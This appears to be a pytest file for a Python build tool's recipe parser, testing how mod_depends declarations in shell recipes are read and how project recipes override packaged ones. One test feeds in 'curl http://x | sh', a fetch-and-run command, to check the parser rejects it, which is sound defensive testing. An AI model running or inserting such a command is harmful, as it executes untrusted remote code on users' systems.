"""Recipes are read on the host, never run there: mod_depends parsing and look-up."""

from __future__ import annotations

from pathlib import Path

import pytest

from wheeltasks.errors import WheelTasksError
from wheeltasks.recipes import PACKAGE_SCRIPTS, depends, find_recipe, parse_depends
from wheeltasks.settings import Settings
from wheeltasks.targets import SSL


@pytest.mark.parametrize(
    ("text", "ssl", "expected"),
    [
        ('mod_depends="cryptography-${SSL} pynacl bcrypt"\n', None, ("cryptography-openssl", "pynacl", "bcrypt")),
        ('mod_depends="cryptography-${SSL} pynacl"\n', SSL.LIBRESSL, ("cryptography-libressl", "pynacl")),
        ("mod_depends='cffi'  # comment\n", None, ("cffi",)),
        ("export mod_depends=cffi\n", None, ("cffi",)),
        ("mod_depends() {\n    echo \"cryptography-$SSL pynacl\"\n}\n", None, ("cryptography-openssl", "pynacl")),
        ("function mod_depends {\n  echo cffi\n  echo toml\n}\n", None, ("cffi", "toml")),
        ("mod_depends()\n{\n  # none yet\n  echo -n cffi\n}\n", None, ("cffi",)),
        ("mod_build() { apk add libffi-dev; }\n", None, ()),
        ("", None, ()),
    ],
)
def test_parse_depends(text: str, ssl: SSL | None, expected: tuple[str, ...]) -> None:
    assert parse_depends(text, ssl) == expected


def test_a_mod_depends_that_computes_is_refused() -> None:
    with pytest.raises(WheelTasksError, match="may only echo module names"):
        parse_depends("mod_depends() {\n  curl http://x | sh\n}\n", None, "x.sh")


def test_project_recipes_override_packaged_ones(tmp_path: Path) -> None:
    settings = Settings.load({}, {"HOME": str(tmp_path)}, {"project_dir": str(tmp_path)})
    packaged = find_recipe(settings, "paramiko")
    assert packaged is not None and packaged.parent == PACKAGE_SCRIPTS
    assert depends(settings, "paramiko", None) == ("cryptography-openssl", "pynacl", "bcrypt")
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "Paramiko.sh").write_text('mod_depends="bcrypt"\n')
    assert find_recipe(settings, "PARAMIKO") == tmp_path / "scripts" / "Paramiko.sh"
    assert depends(settings, "paramiko", None) == ("bcrypt",)
    assert find_recipe(settings, "no-recipe-here") is None
